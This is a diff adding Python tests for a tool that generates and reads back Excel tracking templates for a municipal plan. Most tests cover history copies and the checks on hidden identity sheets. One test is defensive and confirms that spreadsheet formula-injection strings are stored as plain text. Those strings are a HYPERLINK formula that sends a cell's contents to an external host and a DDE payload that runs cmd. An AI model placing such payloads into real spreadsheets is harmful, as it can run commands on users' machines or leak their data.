@@ -526,6 +526,122 @@ def test_the_command_takes_one_entity_of_a_folder_of_entities(pdm_folder, tmp_pa
     assert unknown.exit_code == 2 and "otra" in unknown.stderr
 
 
+# --- texts a spreadsheet would run ------------------------------------------------------------------
+
+LINK = '=HYPERLINK("http://example.org/?d="&A1,"Ver detalle")'
+COMMAND = "=cmd|' /C calc'!A0"
+
+
+def _formula_cells(path: Path) -> list[str]:
+    book = load_workbook(path)  # formulas as written (not their saved results)
+    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_texts_that_look_like_formulas_are_written_as_text_and_the_returned_template_reads_them_back(tmp_path):
+    folder = write_pdm(tmp_path / "inputs" / "pdm", 2024, BEFORE_T3 + "V-1,2024,3,2\n")
+    (folder / "seguimiento.csv").write_text(
+        "indicador,anio,trimestre,valor,comentario\n" + BEFORE_T3.split("\n", 1)[1]
+        + f'V-1,2024,3,2,"{COMMAND}"\n', encoding="utf-8",
+    )
+    plan = folder / "plan.yaml"
+    text = plan.read_text(encoding="utf-8")
+    text = text.replace("Kilómetros de vías terciarias mejorados", LINK.replace('"', '\\"').join('""'))
+    text = text.replace("Secretaría de Infraestructura", f'"{COMMAND}"').replace("texto: Vías.", "texto: '=1+1'")
+    plan.write_text(text, encoding="utf-8")
+    whole = write_templates(folder, "2024-T3", tmp_path / "outputs").files
+    by_dependency = write_templates(folder, "2024-T3", tmp_path / "por", per_dependency=True).files
+    for path in (*whole, *by_dependency):
+        assert _formula_cells(path) == [], path
+    (path,) = whole
+    sheet = load_workbook(path)[DATA_SHEET]
+    columns, rows = _columns(sheet), _rows_by_id(sheet)
+    assert sheet.cell(rows["V-1"], columns["Nombre del indicador"]).value == LINK
+    assert sheet.cell(rows["V-1"], columns["Responsable"]).value == COMMAND
+    assert sheet.cell(rows["V-1"], columns[f"Comentario ({CUT})"]).value == COMMAND
+    for returned in (path, by_dependency[0]):  # returned unchanged: read back with the texts as texts
+        shutil.copy(returned, folder / "seguimiento.xlsx")
+        (folder / "seguimiento.csv").unlink(missing_ok=True)
+        table = load_execution(folder, load_plan(folder)).table
+        (comment,) = table.loc[(table["indicador"] == "V-1") & (table["trimestre"] == 3), "comentario"]
+        assert comment == COMMAND
+
+
+def test_a_template_made_again_keeps_the_earlier_file_dated_in_historial_and_says_so(template, pdm_folder, tmp_path):
+    """Someone may already have typed into the template in outputs/: writing it again never loses that."""
+    fill(template, {"V-1": 2})
+    typed = template.read_bytes()
+    written = write_templates(pdm_folder, "2024-T3", tmp_path / "outputs")
+    assert written.files == (template,)
+    (kept,) = (template.parent / ".historial").iterdir()
+    assert kept.read_bytes() == typed
+    assert kept.name.startswith("seguimiento-2024-T3.") and kept.suffix == ".xlsx" and len(kept.name) == len("seguimiento-2024-T3.2026-12-07T101500.xlsx")
+    assert written.kept == ((template, kept),)
+    result = runner.invoke(app, ["plantilla", "--input", str(pdm_folder), "--period", "2024-T3", "--output", str(tmp_path / "outputs")])
+    assert result.exit_code == 0 and ".historial" in result.stderr.replace("\n", "")
+    sheet = load_workbook(template)[DATA_SHEET]
+    assert sheet.cell(_rows_by_id(sheet)["V-1"], _columns(sheet)[f"Valor ({CUT})"]).value is None
+
+
+# --- the identity guards against slips ----------------------------------------------------------------
+
+
+def _returned(path: Path, folder: Path) -> None:
+    """`path` as the entity's only seguimiento."""
+    (folder / "seguimiento.csv").unlink(missing_ok=True)
+    shutil.copy(path, folder / "seguimiento.xlsx")
+
+
+def test_a_dependencys_template_refuses_a_row_added_for_another_dependencys_indicator(pdm_folder, tmp_path):
+    path = write_templates(pdm_folder, "2024-T3", tmp_path / "out", per_dependency=True).files[0]  # Infraestructura: V-1
+    fill(path, {"V-1": 3})
+    book = load_workbook(path)
+    sheet = book[DATA_SHEET]
+    columns, row = _columns(sheet), sheet.max_row + 1
+    for heading, value in (("Indicador", "H-1"), ("Año", 2024), ("Trimestre", 3), (f"Valor ({CUT})", 24)):
+        sheet.cell(row, columns[heading]).value = value
+    book.save(path)
+    _returned(path, pdm_folder)
+    with pytest.raises(InputError) as info:
+        load_execution(pdm_folder, load_plan(pdm_folder))
+    text = str(info.value)
+    assert f"fila {row}" in text and "«H-1»" in text and "Secretaría de Infraestructura" in text
+
+
+def test_an_edited_hidden_sheet_is_refused_whatever_cut_it_says(tmp_path):
+    """A 2025 template of an earlier version of the plan, its hidden cut and its rows changed to a
+    year before the vigencia (where the roll-over exception would read it): refused, not read."""
+    folder = write_pdm(tmp_path / "inputs" / "pdm", 2025)
+    (path,) = write_templates(folder, "2025-T2", tmp_path / "out").files
+    book = load_workbook(path)
+    sheet, identity = book[DATA_SHEET], book[IDENTITY_SHEET]
+    columns, rows = _columns(sheet), _rows_by_id(sheet)
+    sheet.cell(rows["V-1"], columns["Valor (2025-T2)"]).value = 4
+    sheet.cell(rows["V-1"], columns["Año"]).value = 2024
+    sheet.cell(rows["V-1"], columns["Trimestre"]).value = 4
+    for (cell, value) in identity.iter_rows(max_col=2):
+        if cell.value == "corte":
+            value.value = "2024-T4"
+    book.save(path)
+    plan = folder / "plan.yaml"
+    plan.write_text(plan.read_text(encoding="utf-8").replace("Hectáreas en restauración", "Hectáreas restauradas"), encoding="utf-8")
+    _returned(path, folder)
+    with pytest.raises(InputError) as info:
+        load_execution(folder, load_plan(folder))
+    assert "hoja oculta" in str(info.value) and "pei-report plantilla" in str(info.value)
+
+
+def test_a_template_without_its_hidden_sheet_is_refused_naming_its_cut(template, pdm_folder):
+    fill(template, {"V-1": 3})
+    book = load_workbook(template)
+    book.remove(book[IDENTITY_SHEET])
+    book.save(template)
+    _returned(template, pdm_folder)
+    with pytest.raises(InputError) as info:
+        load_execution(pdm_folder, load_plan(pdm_folder))
+    text = str(info.value)
+    assert "sin su hoja oculta" in text and "«Valor (2024-T3)»" in text and "--period 2024-T3" in text
+
+
 @pytest.mark.parametrize("left", [(), ("~$salud.xlsx", ".DS_Store")])
 def test_an_empty_seguimiento_folder_is_one_still_waiting_for_its_files(pdm_folder, tmp_path, left):
     # The natural order: make the folder, send the templates out, collect the files in it.
